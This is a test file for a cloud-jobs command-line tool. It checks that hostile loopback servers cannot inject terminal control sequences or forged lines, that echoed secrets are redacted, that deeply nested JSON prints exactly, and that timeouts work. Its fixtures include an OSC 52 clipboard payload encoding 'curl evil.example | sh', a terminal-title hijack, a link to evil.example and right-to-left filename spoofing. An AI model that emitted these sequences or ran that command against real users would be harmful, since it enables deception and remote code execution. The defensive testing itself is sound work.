// A hostile or broken server on 127.0.0.1 against the real bin: no control character or
// bidirectional override of its reaches the terminal, no forged line, `--json` stays exact even
// 10,000 levels deep, and `get --timeout` bounds a server that never answers or trickles.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sendJson, startLoopbackServer, type LoopbackServer } from '../../../test-utils/loopbackServer.js';
import { redactSecrets } from '@cloud-jobs/jobs';
import { run } from '../src/main.js';
import { cleanEnv, cli, PROJECT, TOKEN } from './helpers.js';

const ESC = '\u001b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
const TITLE = `${ESC}]0;owned${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const C1_CSI = '\u009b2J';
const RLO = '\u202e';
const FORGED = '\n  state     succeeded (SUCCESS)';

/** An ECS job that tries every trick in every field the CLI prints. */
const HOSTILE_JOB = {
  status: 'FAIL',
  job_id: `ff8080${CLEAR}${FORGED}`,
  job_type: `deploy${FORGED}${TITLE}\u2066x\u2069`,
  begin_time: '2024-01-01T00:00:00.000Z',
  end_time: '2024-01-01T00:01:00.000Z',
  error_code: `Ecs.0013${C1_CSI}`,
  fail_reason: `quota${OSC52} exceeded${RLO}txt.exe${FORGED}\r\u0008\u007f`,
  entities: {
    server_id: `srv${ESC}[?25l\u200f`,
    sub_jobs: [
      {
        status: 'FAIL',
        job_id: `sub${TITLE}`,
        job_type: 'createSingleServer',
        error_code: `Ecs.0013${ESC}c`,
        fail_reason: `no EIP${OSC52}\tleft${FORGED}`,
        entities: { server_id: `s1\u061c${ESC}]8;;https://evil.example${ESC}\\` },
      },
    ],
  },
};

/** Control characters, DEL, C1 and the bidirectional formatting characters; `\n` ends our own lines. */
// eslint-disable-next-line no-control-regex
const UNSAFE_EXCEPT_NEWLINE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const HOSTILE_ID = `ff80${TITLE}${RLO}`;

/** A secret with what white-space collapsing, escaping and JSON change: a double space, a tab, quotes. */
const SECRET = 'sec  ret\t"pass" \\ 0f1e2d3c';
const ECHOING_JOB = {
  status: 'FAIL',
  job_id: 'ff8080echo',
  job_type: `type ${SECRET}`,
  error_code: 'Ecs.0401',
  fail_reason: `credential ${SECRET} refused; as JSON ${JSON.stringify(SECRET)}; as URL ${encodeURIComponent(SECRET)}`,
  entities: { sub_jobs: [{ status: 'FAIL', job_id: `sub ${SECRET}`, fail_reason: `again:\n${SECRET}` }] },
};

let hostile: LoopbackServer;
let echoing: LoopbackServer;
let deep: LoopbackServer;
let silent: LoopbackServer;
let trickle: LoopbackServer;
const DEPTH = 10_000;
let deepBody = '"leaf"';
for (let i = 0; i < DEPTH; i++) deepBody = `{"a":${deepBody}}`;

beforeAll(async () => {
  hostile = await startLoopbackServer((_req, res) => sendJson(res, 200, HOSTILE_JOB));
  echoing = await startLoopbackServer((_req, res) => sendJson(res, 200, ECHOING_JOB));
  deep = await startLoopbackServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(`{"status":"RUNNING","job_id":"deep-1","job_type":"x","entities":{"nested":${deepBody}}}`);
  });
  // Reads the request, never answers.
  silent = await startLoopbackServer(() => undefined);
  // Headers at once, then one byte of a never-ending body a second.
  trickle = await startLoopbackServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.write('{"status":"RUNNING","job_id":"');
    const timer = setInterval(() => res.write('a'), 1000);
    res.on('close', () => clearInterval(timer));
  });
});
afterAll(async () => {
  await Promise.all([hostile.close(), echoing.close(), deep.close(), silent.close(), trickle.close()]);
});

function expectNoUnsafe(text: string): void {
  const found = UNSAFE_EXCEPT_NEWLINE.exec(text);
  expect(found === null ? null : `U+${(found[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')} at ${found.index}`).toBeNull();
}

describe.concurrent('control characters from a server never reach the terminal', () => {
  it('get: every field escaped, one state line, nothing forged; --json stays the exact payload', async () => {
    const result = await cli(['get', 'ecs', 'ff8080', '--endpoint', hostile.url]);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe('');
    expectNoUnsafe(result.stdout);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines.filter((line) => /^\s*state\b/.test(line))).toEqual(['  state     failed (FAIL)']);
    // Escaped, so still readable: the newline and the escape character show as \n and \x1b.
    expect(lines[0]).toBe('ecs job ff8080\\x1b[2J\\x1b[H\\n  state     succeeded (SUCCESS)');
    expect(result.stdout).toContain('  type      deploy\\n  state     succeeded (SUCCESS)\\x1b]0;owned\\x1b\\\\u2066x\\u2069\n');
    expect(result.stdout).toContain('Ecs.0013\\x9b2J quota\\x1b]52;c;');
    expect(result.stdout).toContain('exceeded\\u202etxt.exe');

    // --json is data: the payload as sent, escaped by JSON only.
    const json = await cli(['get', 'ecs', 'ff8080', '--endpoint', hostile.url, '--json']);
    expect(json.code).toBe(1);
    expect(json.stderr).toBe('');
    const job = JSON.parse(json.stdout) as { raw: unknown; id: string; type: string };
    expect(job.raw).toEqual(HOSTILE_JOB);
    expect(job.id).toBe(HOSTILE_JOB.job_id);
    expect(job.type).toBe(HOSTILE_JOB.job_type);
    expect(json.stdout).not.toContain(ESC); // JSON escapes C0 itself
  });

  it('wait: the header, change lines, result and reason on stdout, the failure on stderr', async () => {
    const result = await cli(['wait', 'ecs', HOSTILE_ID, '--endpoint', hostile.url, '--interval', '100ms']);
    expect(result.code).toBe(1);
    expectNoUnsafe(result.stdout);
    expectNoUnsafe(result.stderr);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('waiting for ecs job ff80\\x1b]0;owned\\x1b\\\\u202e (timeout 30m00s)');
    expect(lines).toHaveLength(4); // header, one change, the result, the reason: nothing forged
    expect(lines[1]).toMatch(/^\[\d+\.\ds\] failed \(FAIL\) 1\/1 sub-jobs$/);
    expect(lines[3]).toMatch(/^reason: sub-job 1\/1 \(sub\\x1b\]0;owned\\x1b\\\) failed: Ecs\.0013\\x1bc no EIP\\x1b\]52;c;\S+\\x07 left state succeeded \(SUCCESS\)$/);
    expect(result.stderr.split('\n')).toHaveLength(2);
    expect(result.stderr).toMatch(/^cloud-jobs: ecs job ff8080\\x1b\[2J\\x1b\[H\\n +state +succeeded \(SUCCESS\) failed: sub-job 1\/1 /);
  });

  it('wait on a terminal: the live line carries only the CLI\'s own escape sequences', async () => {
    let stdout = '';
    let stderr = '';
    const code = await run(['wait', 'ecs', HOSTILE_ID, '--endpoint', hostile.url, '--interval', '100ms'], {
      env: { OS_AUTH_TOKEN: TOKEN, HUAWEICLOUD_SDK_PROJECT_ID: PROJECT },
      stdout: { write: (text: string) => (stdout += text) },
      stderr: { write: (text: string) => (stderr += text) },
      isTTY: true,
      stderrIsTTY: false,
      columns: 400,
    });
    expect(code).toBe(1);
    // Ours: redraw, colors, cursor hide/show. Anything else would be the server's.
    // eslint-disable-next-line no-control-regex
    const withoutOurs = stdout.replace(/\r\u001b\[2K|\u001b\[\?25[lh]|\u001b\[(0|1|2|3[1-6])m/g, '');
    expectNoUnsafe(withoutOurs);
    expectNoUnsafe(stderr);
    expect(withoutOurs).toContain('ecs ff80\\x1b]0;o…');
    expect(withoutOurs).toMatch(/\n {2}sub-job 1\/1 \(sub\\x1b\]0;owned\\x1b\\\) failed: Ecs\.0013\\x1bc no EIP/);
  });
});

describe.concurrent('a server echoing a secret of the environment', () => {
  /** The secret in no form: verbatim, collapsed, escaped, JSON-escaped or percent-encoded. */
  function expectNoSecret(text: string): void {
    for (const form of [SECRET, 'sec ret', 'ret\\t', '0f1e2d3c', encodeURIComponent(SECRET)]) expect(text).not.toContain(form);
  }
  it.each([['get'], ['wait']])('%s: redacted before white space collapses or control characters are escaped', async (command) => {
    const flags = command === 'wait' ? ['--interval', '100ms'] : [];
    const result = await cli([command, 'ecs', 'ff8080echo', '--endpoint', echoing.url, ...flags], cleanEnv({ MY_SERVICE_TOKEN: SECRET }));
    expect(result.code).toBe(1);
    expectNoSecret(result.stdout + result.stderr);
    expect(result.stdout).toContain('[REDACTED]');
  });
  it('registers the secret with the library, so its own errors are scrubbed too', async () => {
    let out = '';
    const code = await run(['get', 'ecs', 'ff8080echo', '--endpoint', echoing.url], {
      env: { OS_AUTH_TOKEN: TOKEN, HUAWEICLOUD_SDK_PROJECT_ID: PROJECT, OS_PASSWORD: 'another-secret-7a6b' },
      stdout: { write: (text: string) => (out += text) },
      stderr: { write: (text: string) => (out += text) },
    });
    expect(code).toBe(1);
    expect(redactSecrets('password another-secret-7a6b, token cli-e2e-secret-token-5b1d7e90')).toBe('password [REDACTED], token [REDACTED]');
  });
});

describe.concurrent('a 10,000-level payload', () => {
  it('get --json prints it, exact and complete; get prints the summary', async () => {
    const result = await cli(['get', 'ecs', 'deep-1', '--endpoint', deep.url, '--json']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const job = JSON.parse(result.stdout) as { id: string; state: string; raw: { entities: { nested: unknown } } };
    expect(job).toMatchObject({ id: 'deep-1', state: 'running' });
    let node: unknown = job.raw.entities.nested;
    let depth = 0;
    while (typeof node === 'object' && node !== null) {
      node = (node as { a: unknown }).a;
      depth += 1;
    }
    expect([depth, node]).toEqual([DEPTH, 'leaf']);
    // Indented like every other --json output down to MAX_INDENTED_DEPTH, compact below: the
    // text stays near the payload's size (indenting all 10,000 levels would be some 200 MB).
    expect(result.stdout).toMatch(/^\{\n {2}"service": "ecs",\n {2}"id": "deep-1",\n/);
    expect(result.stdout).toContain(`${'{"a":'.repeat(100)}`);
    expect(result.stdout.length).toBeLessThan(200_000);

    const summary = await cli(['get', 'ecs', 'deep-1', '--endpoint', deep.url]);
    expect(summary.code).toBe(0);
    expect(summary.stdout).toMatch(/^ecs job deep-1\n {2}state {5}running \(RUNNING\)\n/);
  });
});

describe.concurrent('get --timeout bounds the request', () => {
  it.each([
    ['never answers', () => silent.url],
    ['trickles a byte a second', () => trickle.url],
  ])('a server that %s: exit 4 within a few seconds, saying it timed out', async (_what, url) => {
    const started = performance.now();
    const result = await cli(['get', 'ecs', 'ff8080', '--endpoint', url(), '--timeout', '1s']);
    const elapsed = performance.now() - started;
    expect(result.code).toBe(4);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^cloud-jobs: ecs: the request timed out: no complete answer within 1\.0s \(see --timeout\)\n$/);
    expect(elapsed).toBeLessThan(8000);
  }, 20_000);
});
